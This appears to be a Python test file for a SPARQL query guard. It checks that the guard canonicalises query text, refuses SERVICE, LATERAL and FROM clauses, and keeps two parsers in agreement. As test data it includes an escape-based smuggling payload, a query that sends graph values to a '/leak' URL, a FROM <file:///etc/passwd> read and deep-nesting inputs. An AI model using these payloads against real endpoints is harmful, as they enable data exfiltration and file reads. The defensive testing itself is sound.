"""The canonical query text (kg.ask.sparqltext): what rdflib checks is what Oxigraph runs.

The differential tests run the same texts through the guard and the engines: no text the guard
accepts ever makes Oxigraph call out (a local listener counts connections), and where both parsers
accept a text they read the same strings out of it (rdflib and Oxigraph give equal answers)."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from rdflib import Graph, Literal

from kg.ask.query import QueryError, check_query, run_query
from kg.ask.sparqltext import MAX_DEPTH, MAX_OPERANDS, MAX_TOKENS, TextError, canonical, check_text, string_literal
from kg.ask.store import load_memory


@pytest.fixture(scope="module")
def tiny(tmp_path_factory):
    """A three-triple graph, in Oxigraph (as kg loads graph.ttl) and in rdflib."""
    path = tmp_path_factory.mktemp("tiny") / "graph.ttl"
    path.write_text('<http://e/a> <http://e/p> "x" .\n<http://e/b> <http://e/p> "y\\"z" .\n'
                    '<http://e/c> <http://e/q> <http://e/a> .\n', encoding="utf-8")
    return load_memory(path), Graph().parse(path, format="turtle")


# -- the canonical form -------------------------------------------------------------------------------

def test_unicode_escapes_are_expanded_before_anything_else():
    # rdflib read this as a long string, Oxigraph as a one-character string followed by SERVICE
    text = 'SELECT * WHERE { BIND("\\u0022" AS ?x) SERVICE <http://h/> { ?a ?b ?c } # """ AS ?x)\n}'
    canon = canonical(text)
    assert "\\u0022" not in canon and '"""' not in canon
    assert canon == 'SELECT * WHERE { BIND(" AS ?x) SERVICE <http://h/> { ?a ?b ?c } # " AS ?x)\n}'
    check_text(canon)  # SERVICE is inside a string: nothing to refuse


def test_comments_go_and_line_breaks_stay():
    text = "SELECT ?x # a comment with \"quotes and SERVICE\r\nWHERE { ?x ?p ?o } # end"
    assert canonical(text) == "SELECT ?x \nWHERE { ?x ?p ?o } "


def test_iris_keep_their_hash():
    assert canonical("SELECT * WHERE { ?s <http://e/a#b> ?o }") == "SELECT * WHERE { ?s <http://e/a#b> ?o }"


@pytest.mark.parametrize("written, value", [
    ("'a\"b'", 'a"b'), ('"""two\nlines"""', "two\nlines"), ("'''it''s'''", "it''s"), ('"tab\\there"', "tab\there"),
    ('"\\u738B"', "王"), ('"line\\u2028sep"', "line\u2028sep"), ('"nul\\u0000"', "nul\x00"),
])
def test_strings_are_rewritten_as_one_line_double_quoted(written, value):
    canon = canonical(f"SELECT ?x WHERE {{ BIND({written} AS ?x) }}")
    literal = canon[len("SELECT ?x WHERE { BIND("):-len(" AS ?x) }")]
    assert literal == string_literal(value)
    assert "\n" not in literal and "\r" not in literal and "\u2028" not in literal
    assert literal.count('"') - literal.count('\\"') == 2


@pytest.mark.parametrize("text, message", [
    ('SELECT * WHERE { BIND("\\u005Cu0022" AS ?x) }', "spells another"),
    ('SELECT * WHERE { BIND("\\uD800" AS ?x) }', "not a character"),
    ("SELECT * WHERE { BIND(\"open AS ?x) }", "unterminated string"),
    ("SELECT * WHERE { BIND('open AS ?x) }", "unterminated string"),
    ('SELECT * WHERE { BIND("bad \\q escape" AS ?x) }', "bad escape"),
    ("SELECT * WHERE { BIND(\"\ud800\" AS ?x) }", "lone surrogate"),
])
def test_texts_without_a_canonical_form_are_refused(text, message):
    with pytest.raises(TextError, match=message):
        canonical(text)


@pytest.mark.parametrize("text, message", [
    ("SELECT * WHERE { ?s ?p 1SERVICE <http://h/> { ?a ?b ?c } }", "SERVICE is refused"),
    ("SELECT * WHERE { service <http://h/> { ?a ?b ?c } }", "SERVICE is refused"),
    ("SELECT * WHERE { ?s ?p ?o LATERAL { SELECT * { ?s ?p ?o } } }", "LATERAL is refused"),
    ("SELECT * FROM <file:///etc/passwd> WHERE { ?s ?p ?o }", "FROM"),
    ("SELECT ?x WHERE { BIND(" + "+".join(["1"] * 8000) + " AS ?x) }", "operands"),
    ("SELECT * WHERE { ?a " + "|".join(f"<http://x/p{i}>" for i in range(12000)) + " ?b }", "operands"),
    ("SELECT ?x WHERE { BIND(" + "(" * 500 + "1" + ")" * 500 + " AS ?x) }", "nested"),
    ("SELECT * WHERE " + "{" * 4000 + " ?a ?b ?c " + "}" * 4000, "nested"),
    ("SELECT * WHERE { VALUES ?x { " + " ".join(["1"] * (MAX_TOKENS + 1)) + " } }", "tokens"),
])
def test_texts_too_complex_or_calling_out_are_refused_before_parsing(text, message):
    with pytest.raises(TextError, match=message):
        check_text(canonical(text))


def test_names_that_only_contain_the_words_are_fine():
    check_text(canonical("SELECT ?service ?from WHERE { ?service <http://e/from> ?from . ?x schema:serviceType ?t . "
                         "FILTER(CONTAINS(?t, \"SERVICE FROM LATERAL\")) }"))


def test_the_limits_leave_room_for_real_queries():
    check_text(canonical("SELECT * WHERE " + "{" * (MAX_DEPTH - 1) + " ?a ?b ?c " + "}" * (MAX_DEPTH - 1)))
    check_text(canonical("SELECT ?x WHERE { BIND(" + "+".join(["1"] * (MAX_OPERANDS // 2)) + " AS ?x) }"))


def test_the_checked_text_is_the_canonical_one():
    checked = check_query("SELECT ?x # note\nWHERE { BIND('a' AS ?x) }")
    assert checked.text == 'SELECT ?x \nWHERE { BIND("a" AS ?x) }' and checked.kind == "SELECT"


def test_deep_nesting_rdflib_cannot_parse_is_a_clear_error():
    with pytest.raises(QueryError, match="too complex"):
        check_query("SELECT ?x WHERE { BIND(" + "(" * (MAX_DEPTH - 1) + "1" + ")" * (MAX_DEPTH - 1) + " AS ?x) }")


# -- differential: the guard's view and the engine's view ----------------------------------------------

PIECES = ['"', "'", '"""', "'''", "#", "\n", "\r", "\\u0022", "\\u0027", "\\u0023", "\\u000A", "\\u000D",
          "\\", "<", ">", "{", "}", "(", ")", " AS ?x)", "BIND(", '"a" ', "?s ?p ?o .", "<http://e/a#b>",
          "FILTER(?s < ?o)", "\u2028", "\x85", "LATERAL", "SELECT * WHERE {"]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.sampled_from(PIECES + ["SERVICE"]), max_size=12), st.lists(st.sampled_from(PIECES), max_size=6))
def test_no_accepted_text_makes_the_engine_call_out(tiny, listener, before, after):
    service = f" SERVICE <http://127.0.0.1:{listener.port}/sparql> {{ ?a ?b ?c }} "
    text = "SELECT * WHERE { " + "".join(before) + service + "".join(after) + " }"
    seen = len(listener.hits)
    try:
        run_query(tiny[0], text, timeout=5, isolated=False)
    except QueryError:
        pass
    assert len(listener.hits) == seen, f"the engine called out for {text!r}"


VALUES = st.text(st.characters(blacklist_categories=("Cs",)), max_size=12)


def _written(value: str, form: str) -> str:
    """`value` written as a SPARQL string in one of the grammar's forms, escapes included."""
    if form == "short":
        return string_literal(value)
    if form == "uescape":  # (escapes are expanded first: a quote, backslash or line break stays an ECHAR)
        return '"' + "".join(string_literal(c)[1:-1] if c in '"\\\n\r' else f"\\u{ord(c):04X}" if ord(c) < 0x10000
                             else f"\\U{ord(c):08X}" for c in value) + '"'
    body = value.replace("\\", "\\\\").replace("'", "\\'")
    if form == "single":
        return "'" + body.replace("\n", "\\n").replace("\r", "\\r") + "'"
    return "'''" + body + "'''"


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(VALUES, st.sampled_from(["short", "uescape", "single", "long"]), st.sampled_from(["", "# c\n", "#\"'\r"]))
def test_both_engines_read_the_same_string(tiny, value, form, comment):
    text = f"SELECT ?x WHERE {comment}{{ BIND({_written(value, form)} AS ?x) }}"
    on_oxigraph = run_query(tiny[0], text, isolated=False).rows
    on_rdflib = run_query(tiny[1], text, timeout=None, isolated=False).rows
    assert on_oxigraph == on_rdflib == [(Literal(value),)]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(VALUES)
def test_bound_values_reach_the_engine_as_they_are(tiny, value):
    query = "SELECT ?s WHERE { ?s <http://e/p> ?v }"
    bound = {"v": Literal(value)}
    assert run_query(tiny[0], query, bound, isolated=False).rows == \
        run_query(tiny[1], query, bound, timeout=None, isolated=False).rows
    assert run_query(tiny[0], "SELECT ?x WHERE { BIND(?v AS ?x) }", bound, isolated=False).rows == [(Literal(value),)]


@pytest.mark.parametrize("isolated", [True, False])
def test_the_reported_smuggling_runs_as_a_string_and_calls_nobody(tiny, listener, isolated):
    text = (f'SELECT * WHERE {{ BIND("\\u0022" AS ?x) SERVICE <http://127.0.0.1:{listener.port}/sparql> '
            f'{{ ?a ?b ?c }} # """ AS ?x)\n}}')
    seen = len(listener.hits)
    rows = run_query(tiny[0], text, timeout=5, isolated=isolated).rows
    assert rows == [(Literal(f" AS ?x) SERVICE <http://127.0.0.1:{listener.port}/sparql> {{ ?a ?b ?c }} # "),)]
    assert len(listener.hits) == seen


def test_the_reported_exfiltration_is_refused(tiny, listener):
    text = ('SELECT * WHERE { ?p <http://e/p> ?name BIND(IRI(CONCAT("http://127.0.0.1:%d/leak?", '
            'ENCODE_FOR_URI(?name))) AS ?u) LATERAL { SERVICE ?u { ?a ?b ?c } } }' % listener.port)
    seen = len(listener.hits)
    with pytest.raises(QueryError, match="refused"):
        run_query(tiny[0], text, timeout=5)
    assert len(listener.hits) == seen
